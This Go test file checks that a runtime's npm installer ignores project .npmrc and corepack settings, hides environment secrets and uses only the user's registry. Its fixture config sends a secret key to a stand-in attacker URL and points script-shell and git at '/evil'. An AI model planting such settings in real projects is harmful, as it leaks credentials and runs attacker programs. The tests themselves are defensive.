package runtime_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	goruntime "runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/usher-run/usher/actions"
	"github.com/usher-run/usher/runtime"
	"github.com/usher-run/usher/runtime/runtimetest"
	"github.com/usher-run/usher/store/memstore"
)

func TestAnInstallationThatIsInterruptedIsNotWaitedFor(t *testing.T) {
	t.Parallel()
	if goruntime.GOOS == "windows" {
		t.Skip("the npm of this test is a script for a shell")
	}
	folder := t.TempDir()
	npm := filepath.Join(folder, "npm")
	if err := os.WriteFile(npm, []byte("#!/bin/sh\nsleep 30 &\necho > "+filepath.Join(folder, "began")+"\nwait\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- runtime.NPM(npm)(ctx, folder) }()
	began := time.NewTicker(time.Millisecond)
	defer began.Stop()
	for range began.C {
		if _, err := os.Stat(filepath.Join(folder, "began")); err == nil {
			break
		}
	}
	stop()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Errorf("it ended with %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Error("what npm started is waited for")
	}
}

// An .npmrc can name any variable of the environment, and any program as git. Here each would
// go to a server that an author of actions has.
const hostileNPMRC = "registry=${EVIL_ADDRESS}/${USHER_KEYS}/\nscript-shell=/evil\ngit=/evil\n"

func TestNPMGetsNeitherTheEnvironmentNorTheSettingsOfAnAction(t *testing.T) {
	if goruntime.GOOS == "windows" {
		t.Skip("the npm of this test is a script for a shell")
	}
	t.Setenv("USHER_KEYS", "the-key-of-all-keys")
	t.Setenv("https_proxy", "http://proxy.example.com")
	said := filepath.Join(t.TempDir(), "said")
	npm := filepath.Join(t.TempDir(), "npm")
	script := "#!/bin/sh\n{ env; ls -a; ls -a ..; cat package.json; echo \"$@\"; } > " + said + "\nmkdir -p node_modules/left\necho 'exports.x = 1' > node_modules/left/index.js\n"
	if err := os.WriteFile(npm, []byte(script), 0o700); err != nil {
		t.Fatal(err)
	}
	folder := t.TempDir()
	if err := write(folder, map[string]string{
		".npmrc": hostileNPMRC, "lib/.npmrc": hostileNPMRC, ".corepack.env": "COREPACK_NPM_REGISTRY=http://evil.example.com",
		"package.json":      `{"packageManager": "npm@1.0.0"}`,
		"package-lock.json": `{"lockfileVersion": 3, "packages": {"node_modules/left": {"version": "1.2.3", "integrity": "sha512-abc"}}}`,
		"greet.js":          "const left = require('left');\n" + hello("api.note(left.x)"),
	}); err != nil {
		t.Fatal(err)
	}
	h := runtimetest.New(t, runtime.Config{Dialects: []actions.Dialect{greeting()}, Store: memstore.New(memstore.Options{})})
	version, err := h.Tenant("").Build(t.Context(), runtime.Draft{Name: "greet", Trigger: greetings, Path: filepath.Join(folder, "greet.js"), Install: runtime.NPM(npm)})
	if err != nil {
		t.Fatal(err)
	}
	if len(version.Dependencies) != 1 {
		t.Errorf("the dependencies are %v", version.Dependencies)
	}
	text, err := os.ReadFile(said)
	if err != nil {
		t.Fatal(err)
	}
	for _, word := range []string{"the-key-of-all-keys", "packageManager", ".npmrc"} {
		if strings.Contains(string(text), word) {
			t.Errorf("npm sees %s", word)
		}
	}
	for _, word := range []string{"http://proxy.example.com", "COREPACK_ENV_FILE=0", "--git=", "--ignore-scripts", "package-lock.json"} {
		if !strings.Contains(string(text), word) {
			t.Errorf("npm does not see %s", word)
		}
	}
}

// What the real npm asks for comes from the registry that its user has configured, although
// the action names another one.
func TestNPMAsksTheRegistryOfItsUser(t *testing.T) {
	npm, err := exec.LookPath("npm")
	if err != nil {
		t.Skip("there is no npm here")
	}
	packed := packedPackage(t, map[string]string{"package/package.json": `{"name": "left", "version": "1.2.3"}`, "package/index.js": "exports.x = 'left'"})
	digest := sha512.Sum512(packed)
	var asked, evil requests
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.add(r.URL.Path)
		_, _ = w.Write(packed)
	}))
	t.Cleanup(registry.Close)
	other := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { evil.add(r.URL.Path) }))
	t.Cleanup(other.Close)
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("USERPROFILE", home)
	t.Setenv("EVIL_ADDRESS", other.URL)
	t.Setenv("USHER_KEYS", "the-key-of-all-keys")
	folder := t.TempDir()
	if err := errors.Join(
		write(home, map[string]string{".npmrc": "registry=" + registry.URL + "/\n"}),
		write(folder, map[string]string{
			".npmrc": hostileNPMRC, "package.json": `{"dependencies": {"left": "1.2.3"}}`,
			"package-lock.json": `{"lockfileVersion": 3, "packages": {"": {"dependencies": {"left": "1.2.3"}}, "node_modules/left": {"version": "1.2.3",
				"resolved": "https://registry.npmjs.org/left/-/left-1.2.3.tgz", "integrity": "sha512-` + base64.StdEncoding.EncodeToString(digest[:]) + `"}}}`,
		}),
	); err != nil {
		t.Fatal(err)
	}
	if err := runtime.NPM(npm)(t.Context(), folder); err != nil {
		t.Fatal(err)
	}
	if text, err := os.ReadFile(filepath.Join(folder, "node_modules", "left", "index.js")); err != nil || string(text) != "exports.x = 'left'" {
		t.Errorf("it installed %q, %v", text, err)
	}
	if got := asked.all(); got != "/left/-/left-1.2.3.tgz" {
		t.Errorf("the registry was asked for %q", got)
	}
	if got := evil.all(); got != "" {
		t.Errorf("another server was asked for %q", got)
	}
	if rooms, err := filepath.Glob(filepath.Join(folder, ".npm-*")); err != nil || len(rooms) > 0 {
		t.Errorf("%v are left, %v", rooms, err)
	}
}

// requests are the paths that a server was asked for.
type requests struct {
	mu    sync.Mutex
	paths []string
}

func (r *requests) add(path string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.paths = append(r.paths, path)
}

func (r *requests) all() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return strings.Join(r.paths, " ")
}

func packedPackage(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var packed bytes.Buffer
	zipped := gzip.NewWriter(&packed)
	archive := tar.NewWriter(zipped)
	for name, text := range files {
		if err := archive.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))}); err != nil {
			t.Fatal(err)
		}
		if _, err := archive.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(archive.Close(), zipped.Close()); err != nil {
		t.Fatal(err)
	}
	return packed.Bytes()
}
